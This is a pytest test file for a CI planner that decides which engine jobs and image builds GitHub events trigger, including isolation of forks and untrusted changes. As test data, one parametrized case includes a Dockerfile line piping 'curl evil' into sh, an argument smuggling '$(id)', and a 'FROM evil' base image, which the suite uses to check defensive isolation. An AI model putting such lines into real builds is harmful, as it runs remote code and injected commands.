"""`plan --event`, against the test GitHub: which event needs which jobs."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from param_discovery.errors import InputError, SpecError
from param_discovery.github.commit import Branch, Committed, Edit, commit
from param_discovery.github.event import MODELS, Event
from param_discovery.pipeline.plan_event import Asked, plan_event
from param_discovery.pipeline.plan_options import PlanOptions
from tests.github.hub import FORK, FORK_NUMBER, NUMBER, REPOSITORY, Hub
from tests.unit.pipeline.plan_house import built, pulled

if TYPE_CHECKING:
    from param_discovery.report.plan import Plan

SEPARATE = PlanOptions(separate_images=True)
NONE: dict[str, bytes | None] = {
    "engine_versions/vllm.yaml": None,
    "schemas/vllm.json": None,
    "schemas/sglang.json": None,
    "docker/Dockerfile.vllm": None,
}


@pytest.fixture
def house(hub: Hub) -> Hub:
    """Both engines at 1.0 on `main`; `bump` branches off there."""
    hub.push(NONE | pulled("v1.0") | built("1.0"), "main")
    hub.app.gits.move(REPOSITORY, "bump", hub.head("main"))
    return hub


def _plan(hub: Hub, name: str, payload: dict[str, Any], **more: Any) -> Plan:
    event = Event(name, MODELS[name].model_validate(payload))
    asked = Asked(more.pop("engines", ()), more.pop("pr_number", None))
    options = more.pop("options", SEPARATE)
    sha = more.pop("sha", None) or hub.head("main")
    return plan_event(hub.client, event, asked, options, {"GITHUB_SHA": sha})


def _pull(hub: Hub, number: int = NUMBER) -> dict[str, Any]:
    pull = hub.world.pull(number)
    assert pull is not None
    head = hub.head(pull.head_branch, pull.head_repository)
    return {
        "action": "synchronize",
        "pull_request": {
            "number": number,
            "state": "open",
            "user": {"login": pull.author, "type": pull.author_kind},
            "head": {
                "ref": pull.head_branch,
                "sha": head,
                "repo": {"full_name": pull.head_repository},
            },
            "base": {
                "ref": "main",
                "sha": hub.head("main"),
                "repo": {"full_name": REPOSITORY},
            },
        },
    }


def _run_of(hub: Hub, branch: str = "bump", event: str = "pull_request") -> dict[str, Any]:
    return {
        "action": "completed",
        "workflow_run": {
            "id": 1,
            "event": event,
            "head_sha": hub.head(branch),
            "head_branch": branch,
            "head_repository": {"full_name": REPOSITORY, "owner": {"login": "acme"}},
            "status": "completed",
            "conclusion": "success",
        },
    }


def _names(plan: Plan) -> tuple[list[str], list[str]]:
    return [job.engine for job in plan.jobs], [job.engine for job in plan.images]


def test_a_bump_of_a_pulled_engine_goes_to_the_gpu_runner(house: Hub) -> None:
    house.push(pulled("v1.1"))
    plan = _plan(house, "pull_request", _pull(house))
    [job] = plan.jobs
    assert job._asdict() == {
        "engine": "pulled",
        "version": "v1.1",
        "runs_on": ("self-hosted", "gpu"),
        "gpu": "preferred",
        "runtime": "docker",
        "image": "pull",
        "schema": "schemas/pulled.json",
    }
    assert plan.images == ()


def test_a_bump_of_a_built_engine_is_an_image_first(house: Hub) -> None:
    head = house.push(built("1.1+cpu"))
    plan = _plan(house, "pull_request", _pull(house))
    assert plan.jobs == ()
    [image] = plan.images
    name = f"ghcr.io/{REPOSITORY}/built-cache"
    assert (image.repository, image.tag) == (name, f"pr-{NUMBER}-{head[:12]}")
    assert image.cache == image.cache_from == f"{name}:built-1.1-cpu-buildcache"
    assert (image.version, image.version_arg) == ("1.1+cpu", "BUILT_VERSION")
    assert (image.dockerfile, image.context) == ("images/built/Dockerfile", "images/built")
    assert (image.pr_number, image.schema) == (str(NUMBER), "schemas/built.json")


def test_paths_are_from_the_repositorys_root(house: Hub) -> None:
    below = {f"llm/{name}": content for name, content in built("1.0").items()}
    house.push(below, "main")
    house.app.gits.move(REPOSITORY, "bump", house.head("main"))
    house.push({f"llm/{name}": content for name, content in built("1.1").items()})
    options = PlanOptions(root=Path("llm"), separate_images=True)
    event = Event("pull_request", MODELS["pull_request"].model_validate(_pull(house)))
    asked = Asked(working_directory="llm")
    [image] = plan_event(house.client, event, asked, options, {}).images
    assert (image.dockerfile, image.context) == ("llm/images/built/Dockerfile", "llm/images/built")


def test_both_at_once(house: Hub) -> None:
    house.push(pulled("v1.1") | built("1.1"))
    assert _names(_plan(house, "pull_request", _pull(house))) == (["pulled"], ["built"])


@pytest.mark.parametrize(
    "files",
    [
        built("1.1", "RUN curl evil | sh\n"),
        built("1.1") | {"images/built/more.txt": b"x"},
        {"images/built/Dockerfile": b"FROM scratch\nARG BUILT_VERSION=1.1 OTHER=$(id)\n"},
        {"engine_versions/built.yaml": built("1.1")["engine_versions/built.yaml"], "schemas/x": b""}
        | {"images/built/Dockerfile": b"FROM evil\nARG BUILT_VERSION=1.1\n"},
    ],
    ids=["line", "context", "argument", "base"],
)
def test_what_differs_in_more_than_the_version_is_built_where_it_is_looked_into(
    house: Hub, files: dict[str, bytes | None]
) -> None:
    house.push(files)
    plan = _plan(house, "pull_request", _pull(house))
    assert _names(plan) == (["built"], [])
    assert plan.jobs[0].runs_on == ("ubuntu-latest",)
    assert _plan(house, "workflow_run", _run_of(house)).images == ()


def test_a_specification_that_changes_in_more_than_the_version_is_not_published(house: Hub) -> None:
    spec = built("1.1")["engine_versions/built.yaml"] or b""
    house.push(built("1.1") | {"engine_versions/built.yaml": spec + b"env: {A: b}\n"})
    assert _names(_plan(house, "pull_request", _pull(house))) == (["built"], [])


def test_inline_everything_is_looked_into_where_it_is_built(house: Hub) -> None:
    house.push(pulled("v1.1") | built("1.1"))
    plan = _plan(house, "pull_request", _pull(house), options=PlanOptions())
    assert _names(plan) == (["built", "pulled"], [])


def test_wheels_need_neither_image_nor_gpu(house: Hub) -> None:
    house.push(pulled("v1.1", gpu="required"))
    options = PlanOptions(runtime="wheel", separate_images=True)
    [job] = _plan(house, "pull_request", _pull(house), options=options).jobs
    assert (job.runs_on, job.image, job.runtime) == (("ubuntu-latest",), "none", "wheel")  # type: ignore[union-attr]


def test_the_pipelines_own_commit_asks_for_the_same_again_and_no_more(house: Hub) -> None:
    house.push(pulled("v1.1"))
    before = _plan(house, "pull_request", _pull(house))
    house.push({"schemas/pulled.json": b"{}"})
    assert _plan(house, "pull_request", _pull(house)) == before


def test_a_change_of_no_engine_needs_nothing(house: Hub) -> None:
    house.push({"README.md": b"# More\n"})
    plan = _plan(house, "pull_request", _pull(house))
    assert _names(plan) == ([], [])
    assert "changes no engine" in plan.notes[0]


def test_a_fork_gets_nothing_whatever_started_the_run(house: Hub) -> None:
    house.app.gits.move(FORK, "fix", house.head("main"))
    house.app.gits.commit(FORK, "fix", pulled("v6.6.6"), "Fix")
    for found in (
        _plan(house, "pull_request", _pull(house, FORK_NUMBER)),
        _plan(house, "workflow_dispatch", {"ref": "refs/heads/main"}, pr_number=FORK_NUMBER),
    ):
        assert _names(found) == ([], [])
        assert "fork" in found.notes[0]


def test_a_head_that_moved_on_is_the_next_runs_business(house: Hub) -> None:
    house.push(pulled("v1.1"))
    late = _pull(house)
    house.push(pulled("v1.2"))
    plan = _plan(house, "pull_request", late)
    assert plan.jobs == ()
    assert "moved on" in plan.notes[0]


def test_publishing_follows_the_run_of_a_pull_request(house: Hub) -> None:
    head = house.push(pulled("v1.1") | built("1.1"))
    plan = _plan(house, "workflow_run", _run_of(house))
    assert _names(plan) == ([], ["built"])
    assert plan.images[0].tag == f"pr-{NUMBER}-{head[:12]}"


def test_publishing_goes_on_past_what_the_run_itself_committed(house: Hub) -> None:
    """The pulled engine's schema came by that run: the built one's head has moved on by then."""
    house.push(pulled("v1.1") | built("1.1"))
    payload = _run_of(house)
    files: dict[str, bytes | None] = {"schemas/pulled.json": b"{}"}
    edit = Edit(house.head(), files, "Discover pulled")
    done = commit(house.client, Branch(REPOSITORY, "bump"), edit)
    assert isinstance(done, Committed)
    [image] = _plan(house, "workflow_run", payload).images
    assert (image.engine, image.tag) == ("built", f"pr-{NUMBER}-{done.sha[:12]}")
    house.push({"README.md": b"# Theirs\n"})
    assert _names(_plan(house, "workflow_run", payload)) == ([], [])


def test_what_main_changed_meanwhile_is_not_published_and_says_so(house: Hub) -> None:
    house.push(built("1.1"))
    house.push(built("1.0", "RUN true\n"), "main")
    assert _names(_plan(house, "pull_request", _pull(house))) == ([], ["built"])
    with pytest.raises(InputError, match="the default branch has changed what the image of built"):
        _plan(house, "workflow_run", _run_of(house))


@pytest.mark.parametrize("event", ["push", "schedule"])
def test_the_default_branch_gets_images_of_its_own_and_no_schemas(house: Hub, event: str) -> None:
    payload = {
        "push": {
            "ref": "refs/heads/main",
            "before": house.head("main"),
            "after": house.push(pulled("v1.1") | built("1.1"), "main"),
        },
        "schedule": {"schedule": "17 3 * * 1"},
    }[event]
    first = _plan(house, event, payload)
    [image] = first.images
    assert first.jobs == ()
    assert (image.repository, image.tag) == (f"ghcr.io/{REPOSITORY}/built", "1.1")
    assert (image.cache_from, image.pr_number) == ("", "")
    # A pull request of our own stands on top of it, and is another matter.
    house.app.gits.move(REPOSITORY, "bump", house.head("main"))
    edit = Edit(house.head(), {"schemas/pulled.json": b"{}"}, "Discover pulled")
    assert isinstance(commit(house.client, Branch(REPOSITORY, "bump"), edit), Committed)
    followed = _plan(house, "workflow_run", _run_of(house, "main", event))
    assert followed.images == first.images


def test_by_hand_engines_are_looked_into_in_one_step(house: Hub) -> None:
    house.push(built("1.1"))
    payload = {"ref": "refs/heads/main"}
    by_hand = {"options": PlanOptions(), "pr_number": NUMBER}
    assert _names(_plan(house, "workflow_dispatch", payload, **by_hand)) == (["built"], [])
    everything = _plan(house, "workflow_dispatch", payload, options=PlanOptions())
    assert _names(everything) == (["built", "pulled"], [])
    one = _plan(house, "workflow_dispatch", payload, options=PlanOptions(), engines=("pulled",))
    assert _names(one) == (["pulled"], [])


def test_an_engine_that_is_removed_needs_no_job(house: Hub) -> None:
    house.push({"engine_versions/pulled.yaml": None})
    assert _names(_plan(house, "pull_request", _pull(house))) == ([], [])


def test_a_wrong_specification_plans_nothing(house: Hub) -> None:
    house.push({"engine_versions/pulled.yaml": b"package: x\n"})
    with pytest.raises(SpecError):
        _plan(house, "pull_request", _pull(house))


def test_an_unknown_engine_is_an_error(house: Hub) -> None:
    with pytest.raises(InputError, match="no engine is called"):
        _plan(house, "pull_request", _pull(house), engines=("pulledd",))
